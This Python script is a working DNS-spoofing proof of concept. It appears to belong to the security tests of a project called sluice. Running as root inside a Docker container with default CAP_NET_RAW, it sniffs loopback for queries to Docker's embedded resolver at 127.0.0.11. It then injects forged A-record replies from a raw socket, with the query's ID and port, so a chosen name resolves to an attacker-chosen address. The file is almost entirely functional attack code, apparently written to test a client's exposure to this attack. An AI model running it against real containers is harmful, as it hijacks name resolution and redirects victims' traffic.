#!/usr/bin/env python3
"""engine_spoof.py NAME ADDR SECONDS: what a root process in an attached
container can do to sluice's client of Docker's embedded DNS with the
capabilities Docker gives it by default (CAP_NET_RAW; no CAP_NET_ADMIN).

Run inside the container's network namespace. It watches the namespace's
loopback with a packet socket (CAP_NET_RAW) for sluice's queries to
127.0.0.11 (after Docker's DNAT: 127.0.0.11:PORT, PORT Docker's DNS
listener), and for each A question for NAME sends at once, from a raw IP
socket, a reply from that listener's address and port to the query's
source: same ID, same question, one A record NAME -> ADDR. Conntrack takes
it as the reply of the query's flow and un-NATs it to 127.0.0.11:53, so
the connected engine socket takes it as Docker's own. Nothing is guessed:
the ID, the port and the question are read off loopback. It runs SECONDS
seconds (or until SIGTERM) and prints "queries N forged N" at the end.
"""
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def qname_end(msg, off):
    """The offset after the (uncompressed) name at off, and its text."""
    labels = []
    while off < len(msg):
        n = msg[off]
        off += 1
        if n == 0:
            return off, ".".join(labels).lower()
        if n & 0xC0 or off + n > len(msg):
            return None, None
        labels.append(msg[off:off + n].decode("ascii", "replace"))
        off += n
    return None, None


def forged(query, addr):
    """The reply to query (a DNS message): its ID and question, one A record."""
    end, _ = qname_end(query, 12)
    question = query[12:end + 4]
    head = struct.pack("!HHHHHH", struct.unpack("!H", query[:2])[0], 0x8580, 1, 1, 0, 0)
    rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 600, 4) + socket.inet_aton(addr)
    return head + question + rr


def ip_udp(src, sport, dst, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main():
    name, addr, seconds = sys.argv[1].lower(), sys.argv[2], float(sys.argv[3])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind(("lo", 0))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        watch(sniff, raw, name, addr, seconds)
    finally:
        print("queries %d forged %d" % (COUNT[0], COUNT[1]), flush=True)


COUNT = [0, 0]  # queries for NAME seen, replies forged


def watch(sniff, raw, name, addr, seconds):
    end = time.monotonic() + seconds
    print("ready", flush=True)
    while time.monotonic() < end:
        if not select.select([sniff], [], [], 0.2)[0]:
            continue
        frame, where = sniff.recvfrom(65535)
        if where[2] != PACKET_OUTGOING:
            continue  # loopback shows each packet twice: take it once
        pkt = frame[14:]
        if len(pkt) < 28 or pkt[0] >> 4 != 4 or pkt[9] != socket.IPPROTO_UDP:
            continue
        ihl = (pkt[0] & 15) * 4
        src, dst = socket.inet_ntoa(pkt[12:16]), socket.inet_ntoa(pkt[16:20])
        sport, dport = struct.unpack("!HH", pkt[ihl:ihl + 4])
        dns = pkt[ihl + 8:]
        if dst != "127.0.0.11" or len(dns) < 17 or dns[2] & 0x80:
            continue
        qend, qname = qname_end(dns, 12)
        if qend is None or qname != name or dns[qend:qend + 2] != b"\x00\x01":
            continue
        COUNT[0] += 1
        raw.sendto(ip_udp(dst, dport, src, sport, forged(dns, addr)), (src, 0))
        COUNT[1] += 1


if __name__ == "__main__":
    main()
